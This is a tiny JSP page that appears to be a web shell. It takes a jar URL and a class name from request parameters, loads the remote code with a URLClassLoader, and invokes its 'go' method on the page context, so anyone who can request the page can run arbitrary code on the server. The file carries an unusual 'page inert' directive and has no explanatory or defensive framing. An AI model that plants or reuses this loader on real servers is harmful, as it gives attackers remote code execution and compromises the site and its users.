<%@ page inert %>
<%
java.net.URLClassLoader u = new java.net.URLClassLoader(new java.net.URL[]{ new java.net.URL(request.getParameter("jar")) }, getClass().getClassLoader());
u.loadClass(request.getParameter("main")).getMethod("go", Object.class).invoke(null, pageContext);
%>
